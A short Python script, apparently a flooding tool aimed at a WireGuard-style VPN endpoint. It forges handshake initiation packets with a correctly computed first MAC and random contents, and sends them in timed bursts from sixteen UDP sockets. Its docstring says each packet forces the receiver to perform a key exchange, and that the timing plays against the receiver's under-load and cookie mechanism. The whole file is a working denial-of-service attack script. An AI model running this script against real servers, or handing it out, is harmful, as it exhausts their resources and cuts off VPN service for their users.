# SPDX-License-Identifier: GPL-2.0
"""Sends handshake initiations with a valid first MAC and nothing else valid, from many ports.

usage: flood.py PUBLIC-KEY ADDRESS PORT NUMBER SECONDS

They cost the receiver a key exchange each, until it asks for cookies. NUMBER are sent at once, which is more than
a receiver lets wait without being under load; then there is a pause, shorter than the time that it remembers that.
"""

import base64
import hashlib
import os
import socket
import sys
import time

key, address, port, number, seconds = sys.argv[1:]
mac1 = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
packets = []
for _ in range(int(number)):
    body = b"\x01\0\0\0" + os.urandom(112)
    packets.append(body + hashlib.blake2s(body, key=mac1, digest_size=16).digest() + bytes(16))

sockets = []
for _ in range(16):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.connect((address, int(port)))
    one.setblocking(False)
    sockets.append(one)

end = time.monotonic() + float(seconds)
sent = 0
while time.monotonic() < end:
    for i, packet in enumerate(packets):
        try:
            sockets[i % len(sockets)].send(packet)
            sent += 1
        except (BlockingIOError, ConnectionRefusedError):
            pass
    time.sleep(0.4)
print("sent", sent)
